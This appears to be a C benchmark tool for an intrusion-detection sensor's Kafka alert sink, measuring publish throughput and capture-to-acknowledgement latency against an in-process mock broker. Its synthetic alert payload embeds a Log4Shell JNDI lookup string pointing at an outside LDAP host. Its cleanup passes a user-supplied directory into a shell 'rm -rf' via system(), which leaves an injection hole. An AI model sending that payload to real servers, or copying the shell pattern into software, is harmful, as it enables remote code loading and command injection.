/*
 * kafka-bench: what one output thread publishes to Kafka, and how long an
 * alert takes from capture to the broker's acknowledgement.
 *
 *   kafka-bench [--count N] [--rates R1,R2,...] [--seconds S] [--dir DIR]
 *
 * It starts librdkafka's mock cluster in process (a real Kafka protocol
 * endpoint on loopback, one broker, one 8-partition topic), creates one
 * sink exactly as the sensor does (defaults: idempotence, acks=all, lz4,
 * linger.ms 5; its spool under DIR), and drives it from this thread as the
 * output thread would: kafka_sink_event() with a realistic alert record
 * (the sink formats the EVE JSON itself, 1 KiB payload base64'd, ~2.3 KiB
 * a line), kafka_sink_poll() between records.
 *
 * Throughput: N records as fast as the sink takes them, twice: the sink
 * formatting each record (a sensor without eve.json, or a sink with a
 * privacy profile) and the sink given lines formatted already (a sensor
 * that writes eve.json formats once for both); reports records/s handed
 * to librdkafka (the output thread's own rate) and records/s acknowledged
 * (end to end, until the last ack). Latency: for each rate,
 * S seconds of records paced at that rate, each stamped with the wall
 * clock as its capture time; the sink's histogram gives p50/p99/max.
 * One line per measurement, tab-separated, for tools/bench.sh.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <inttypes.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include <librdkafka/rdkafka.h>
#include <librdkafka/rdkafka_mock.h>

#include "mamori/clock.h"
#include "mamori/kafka.h"

static void fill(struct event_record *ev, uint64_t i)
{
	memset(ev, 0, sizeof(*ev));
	ev->type = EVENT_ALERT;
	ev->ip_ver = 4;
	ev->proto = 6;
	ev->src.b[0] = 192; ev->src.b[1] = 168; ev->src.b[2] = (uint8_t)(i >> 8);
	ev->src.b[3] = (uint8_t)i;
	ev->dst.b[0] = 203; ev->dst.b[1] = 0; ev->dst.b[2] = 113; ev->dst.b[3] = 7;
	ev->sport = (uint16_t)(1024 + i % 50000);
	ev->dport = 80;
	ev->ts_us = clock_wall_us();
	ev->flow_id = 1000 + i % 4096;
	snprintf(ev->community_id, sizeof(ev->community_id), "1:bench%06" PRIu64 "=",
		 i % 4096);
	ev->alert.gid = 1;
	ev->alert.sid = 9000002;
	ev->alert.rev = 1;
	ev->alert.severity = 1;
	snprintf(ev->alert.signature, sizeof(ev->alert.signature),
		 "MAMORI EXPLOIT Log4Shell JNDI lookup in a request");
	snprintf(ev->alert.category, sizeof(ev->alert.category),
		 "Attempted Administrator Privilege Gain");
	ev->flow.pkts_toserver = 4;
	ev->flow.bytes_toserver = 476;
	ev->flow.start_us = ev->ts_us - 1000;
	ev->payload_len = EVENT_PAYLOAD_MAX;
	for (unsigned k = 0; k < EVENT_PAYLOAD_MAX; k++)
		ev->payload[k] = (uint8_t)("GET /?x=${jndi:ldap://198.51.100.7/a} HTTP/1.1\r\n"[k % 48]);
}

static uint64_t now_us(void)
{
	return clock_mono_ns() / 1000u;
}

int main(int argc, char **argv)
{
	uint64_t count = 300000, seconds = 3;
	const char *rates = "1000,50000";
	char dir[4096] = "", errstr[512], err[512];
	rd_kafka_conf_t *mconf;
	rd_kafka_t *mrk;
	rd_kafka_mock_cluster_t *mc;
	struct kafka_sink_config sc;
	struct kafka_sink *s;
	struct kafka_sink_stats st;
	struct eve_ctx eve = { .sensor_name = "bench", .sensor_id = 1, .log_payload = true,
			       .log_payload_printable = true };
	static struct event_record ev;
	bool fault;
	uint64_t t0, t1, t2;

	for (int i = 1; i < argc; i++) {
		if (!strcmp(argv[i], "--count") && i + 1 < argc)
			count = strtoull(argv[++i], NULL, 10);
		else if (!strcmp(argv[i], "--rates") && i + 1 < argc)
			rates = argv[++i];
		else if (!strcmp(argv[i], "--seconds") && i + 1 < argc)
			seconds = strtoull(argv[++i], NULL, 10);
		else if (!strcmp(argv[i], "--dir") && i + 1 < argc)
			snprintf(dir, sizeof(dir), "%s", argv[++i]);
		else {
			fprintf(stderr, "usage: kafka-bench [--count N] [--rates R,...] "
				"[--seconds S] [--dir DIR]\n");
			return 2;
		}
	}
	if (!dir[0])
		snprintf(dir, sizeof(dir), "/tmp/mamori-kafka-bench-%d", (int)getpid());

	mconf = rd_kafka_conf_new();
	rd_kafka_conf_set(mconf, "log_level", "2", errstr, sizeof(errstr));
	mrk = rd_kafka_new(RD_KAFKA_PRODUCER, mconf, errstr, sizeof(errstr));
	if (!mrk || !(mc = rd_kafka_mock_cluster_new(mrk, 1))) {
		fprintf(stderr, "kafka-bench: no mock cluster: %s\n", errstr);
		return 1;
	}
	rd_kafka_mock_topic_create(mc, "bench", 8, 1);

	memset(&sc, 0, sizeof(sc));
	sc.brokers = rd_kafka_mock_cluster_bootstraps(mc);
	sc.topic = "bench";
	sc.types = KAFKA_T_ALERT;
	snprintf(sc.spool_dir, sizeof(sc.spool_dir), "%s/spool", dir);
	sc.spool.max_bytes = 1u << 30;
	sc.spool.fsync = SPOOL_FSYNC_INTERVAL;
	sc.spool.fsync_interval_ms = 1000;
	sc.spool.full = SPOOL_DROP_OLDEST;
	sc.flush_timeout_ms = 30000;
	{
		/* librdkafka's queue sized for a burst of the throughput run */
		static const char *props[] = { "queue.buffering.max.messages", "1000000",
					       "queue.buffering.max.kbytes", "2097152" };
		sc.props = props;
		sc.nprops = 2;
	}
	s = kafka_sink_create(&sc, &eve, err, sizeof(err), &fault);
	if (!s) {
		fprintf(stderr, "kafka-bench: %s\n", err);
		return 1;
	}
	/* warm up until the broker has acknowledged (the sink spools before) */
	for (uint64_t i = 0; i < 2000; i++) {
		fill(&ev, i);
		ev.capture_us = clock_wall_us();
		kafka_sink_event(s, &ev, NULL, 0);
		kafka_sink_poll(s);
	}
	for (t0 = now_us(); now_us() - t0 < 10000000u;) {
		kafka_sink_get_stats(s, &st, true);
		if (st.spool_pending == 0 && st.delivered >= 2000)
			break;
		kafka_sink_poll(s);
		usleep(1000);
	}

	/* ---- throughput: with formatting, and of lines formatted already
	 * (a sensor writing eve.json formats once for both) ---- */
	for (int pre = 0; pre < 2; pre++) {
		static char lines[64][8192];
		static size_t lens[64];
		struct kafka_sink_stats before;
		uint64_t d0;

		for (unsigned k = 0; pre && k < 64; k++) {
			struct json_buf j;

			fill(&ev, k);
			json_init(&j, lines[k], sizeof(lines[k]));
			eve_format_event(&j, &eve, &ev);
			lens[k] = j.len;
		}
		kafka_sink_get_stats(s, &before, true);
		d0 = before.delivered;
		t0 = now_us();
		for (uint64_t i = 0; i < count; i++) {
			fill(&ev, i);
			ev.capture_us = clock_wall_us();
			if (pre)
				kafka_sink_event(s, &ev, lines[i & 63], lens[i & 63]);
			else
				kafka_sink_event(s, &ev, NULL, 0);
			if ((i & 63) == 0)
				kafka_sink_poll(s);
		}
		t1 = now_us();
		do {
			kafka_sink_poll(s);
			kafka_sink_get_stats(s, &st, false);
			usleep(200);
		} while (st.delivered - d0 < count && now_us() - t1 < 60000000u);
		t2 = now_us();
		printf("throughput\t%s\t%" PRIu64 "\t%.0f\t%.0f\t%" PRIu64 "\t%" PRIu64 "\t%" PRIu64
		       "\t%" PRIu64 "\n", pre ? "publish" : "format+publish", count,
		       count / ((t1 - t0) / 1e6), (st.delivered - d0) / ((t2 - t0) / 1e6),
		       st.spooled - before.spooled, st.latency_p50_us, st.latency_p99_us,
		       st.latency_max_us);
		fflush(stdout);
	}

	/* ---- latency at fixed rates ---- */
	for (const char *p = rates; *p;) {
		uint64_t rate = strtoull(p, NULL, 10), n = rate * seconds, sent = 0;
		const char *comma = strchr(p, ',');

		p = comma ? comma + 1 : p + strlen(p);
		if (!rate)
			continue;
		kafka_sink_get_stats(s, &st, true);
		t0 = now_us();
		while (sent < n) {
			uint64_t due = t0 + sent * 1000000u / rate;

			if (now_us() >= due) {
				fill(&ev, sent);
				ev.capture_us = clock_wall_us();
				kafka_sink_event(s, &ev, NULL, 0);
				sent++;
			}
			kafka_sink_poll(s);
		}
		for (t1 = now_us(); now_us() - t1 < 2000000u;) {
			kafka_sink_poll(s);
			usleep(200);
		}
		kafka_sink_get_stats(s, &st, true);
		printf("latency\t%" PRIu64 "\t%" PRIu64 "\t%" PRIu64 "\t%" PRIu64 "\t%" PRIu64
		       "\t%" PRIu64 "\n", rate, st.latency_count, st.latency_p50_us,
		       st.latency_p99_us, st.latency_max_us, st.spooled);
		fflush(stdout);
	}
	kafka_sink_close(s);
	kafka_sink_destroy(s);
	rd_kafka_mock_cluster_destroy(mc);
	rd_kafka_destroy(mrk);
	{
		char cmd[4200];
		snprintf(cmd, sizeof(cmd), "rm -rf '%s'", dir);
		if (system(cmd) != 0)
			fprintf(stderr, "kafka-bench: could not remove %s\n", dir);
	}
	return 0;
}
